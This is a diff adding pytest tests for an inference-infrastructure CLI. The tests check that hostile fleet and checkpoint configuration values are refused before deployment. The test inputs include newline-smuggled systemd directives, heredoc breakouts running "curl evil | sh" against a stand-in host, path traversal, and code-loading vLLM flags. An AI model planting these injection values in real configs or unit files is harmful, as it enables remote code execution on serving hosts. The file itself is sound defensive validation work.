@@ -1,0 +1,145 @@
+"""The hostile stack files of the #23 review, planned with `inference-infra plan`: every one exits 2 with one
+paragraph naming the key, before anything is registered. Newlines, spaces, `%`, `*` and `..` in fleet
+names, weight prefixes and manifests; a checkpoint's config.json whose `_name_or_path` carries a unit
+directive, a heredoc end or extra engine flags; secret and code-loading engine flags; a production model
+store without publishers."""
+
+from __future__ import annotations
+
+import json
+
+import pytest
+
+from inference_infra.components.cli import main
+
+PROGRAM = "import runpy\nrunpy.run_module('inference_infra.infra.__main__', run_name='__main__')\n"
+PIN = "ab" * 32
+NETWORK = """\
+  inference-infra:costCenter: ml
+  inference-infra:owner: team@example.com
+  inference-infra:awsNetwork:
+    vpcId: vpc-0abc
+    subnets: [{id: subnet-0a, availabilityZone: us-east-1a}]
+  inference-infra:modelStore: {bucketName: acme-models}
+"""
+
+
+def _stack(fleet: dict, extra: str = "") -> str:
+    fleets = json.dumps([fleet])
+    return f"config:\n  aws:region: us-east-1\n{NETWORK}{extra}  inference-infra:awsGpuFleets: {fleets}\n"
+
+
+def _fleet(**overrides: object) -> dict:
+    fleet = {
+        "name": "serving",
+        "instanceType": "g6e.xlarge",
+        "model": {"name": "llama-3.1-8b", "contextTokens": 4096, "concurrency": 4},
+        "onDemand": 1,
+        "modelPrefix": "meta-llama/Llama-3.1-8B-Instruct",
+        "manifestSha256": PIN,
+    }
+    return {**fleet, **overrides}
+
+
+def _plan(pulumi_project, capsys, stack_text: str, stack: str = "dev") -> tuple[int, str]:
+    folder = pulumi_project(PROGRAM, {stack: stack_text})
+    code = main(["plan", "--stack", stack, "--cwd", str(folder)])
+    return code, " ".join(capsys.readouterr().err.split())
+
+
+def test_plan_accepts_the_reference_fleet(pulumi_project, capsys):
+    code, err = _plan(pulumi_project, capsys, _stack(_fleet()))
+    assert code in (0, 1), err  # 1: a policy of the gate (this minimal stack is not a full one)
+    assert "invalid stack config" not in err
+
+
+@pytest.mark.parametrize(
+    ("overrides", "key"),
+    [
+        ({"modelPrefix": "meta-llama/*"}, "awsGpuFleets[0].modelPrefix"),  # would grant the whole bucket
+        ({"modelPrefix": "models/../other-team"}, "awsGpuFleets[0].modelPrefix"),
+        ({"modelPrefix": "llama 8b"}, "awsGpuFleets[0].modelPrefix"),
+        ({"modelPrefix": "llama\nExecStartPre=/bin/sh -c id"}, "awsGpuFleets[0].modelPrefix"),
+        ({"modelPrefix": "llama%n"}, "awsGpuFleets[0].modelPrefix"),
+        ({"manifestSha256": None}, "awsGpuFleets[0].manifestSha256"),
+        ({"manifestSha256": "not-a-digest"}, "awsGpuFleets[0].manifestSha256"),
+        ({"name": "serving\nx"}, "awsGpuFleets[0].name"),
+        ({"name": "a b"}, "awsGpuFleets[0].name"),
+        ({"clientCidrBlocks": ["10.0.0.0/8"]}, "awsGpuFleets[0].clientCidrBlocks"),
+        ({"apiKey": "sk-the-key-itself"}, "awsGpuFleets[0].apiKey"),
+    ],
+)
+def test_plan_rejects_hostile_fleet_values_with_exit_2(pulumi_project, capsys, overrides, key):
+    fleet = {k: v for k, v in _fleet(**overrides).items() if v is not None}
+    code, err = _plan(pulumi_project, capsys, _stack(fleet))
+    assert code == 2, err
+    assert err.startswith("inference-infra: ")
+    assert key in err
+    assert "Traceback" not in err
+
+
+@pytest.mark.parametrize(
+    ("engine_args", "what"),
+    [
+        (["--api-key", "sk-123"], "is refused: it puts the API key in clear"),
+        (["--trust-remote-code"], "is refused without a reason"),
+        (["--tool-parser-plugin", "/models/p.py"], "is refused without a reason"),
+        (["--load-format", "pt"], "is refused without a reason"),
+        (["--served-model-name", "x"], "is set from the capacity plan"),
+    ],
+)
+def test_plan_rejects_secret_and_code_loading_engine_args(pulumi_project, capsys, engine_args, what):
+    model = {"name": "llama-3.1-8b", "contextTokens": 4096, "concurrency": 4, "engineArgs": engine_args}
+    code, err = _plan(pulumi_project, capsys, _stack(_fleet(model=model)))
+    assert code == 2, err
+    assert "awsGpuFleets[0].model.engineArgs" in err
+    assert what in err
+
+
+@pytest.mark.parametrize(
+    "name_or_path",
+    [
+        "llama\nExecStartPre=/bin/sh -c 'curl evil | sh'",  # a systemd directive before the marker check
+        "llama\nENGINE_FILE\ncurl evil | sh",  # ends a heredoc in a boot script
+        "llama --trust-remote-code",  # an extra vllm flag
+        "100%n",  # a systemd specifier
+    ],
+)
+def test_plan_rejects_a_config_json_whose_name_would_reach_a_unit(
+    pulumi_project, capsys, tmp_path, name_or_path
+):
+    config = {
+        "_name_or_path": name_or_path,
+        "num_hidden_layers": 32,
+        "hidden_size": 4096,
+        "num_attention_heads": 32,
+        "num_key_value_heads": 8,
+        "intermediate_size": 14336,
+        "vocab_size": 128256,
+        "max_position_embeddings": 131072,
+    }
+    path = tmp_path / "checkpoint" / "config.json"
+    path.parent.mkdir()
+    path.write_text(json.dumps(config))
+    model = {"name": str(path), "contextTokens": 4096, "concurrency": 4}
+    code, err = _plan(pulumi_project, capsys, _stack(_fleet(model=model)))
+    assert code == 2, err
+    assert "inference-infra:awsGpuFleets[0].model = " in err
+    assert "(config.json's _name_or_path), which must be 1-3 '/'-separated segments" in err
+
+
+def test_plan_rejects_a_production_model_store_without_publishers(pulumi_project, capsys):
+    code, err = _plan(pulumi_project, capsys, _stack(_fleet()), stack="prod")
+    assert code == 2, err
+    assert "inference-infra:modelStore.publishers [] must name the IAM roles that publish weights" in err
+
+
+def test_plan_accepts_a_production_model_store_with_publishers(pulumi_project, capsys):
+    publisher = "arn:aws:iam::123456789012:role/pub"
+    text = _stack(_fleet()).replace(
+        "inference-infra:modelStore: {bucketName: acme-models}",
+        f"inference-infra:modelStore: {{bucketName: acme-models, publishers: [{publisher}]}}",
+    )
+    code, err = _plan(pulumi_project, capsys, text, stack="prod")
+    assert code in (0, 1), err  # 1: a production policy may still be unmet; the config itself is accepted
+    assert "modelStore.publishers" not in err
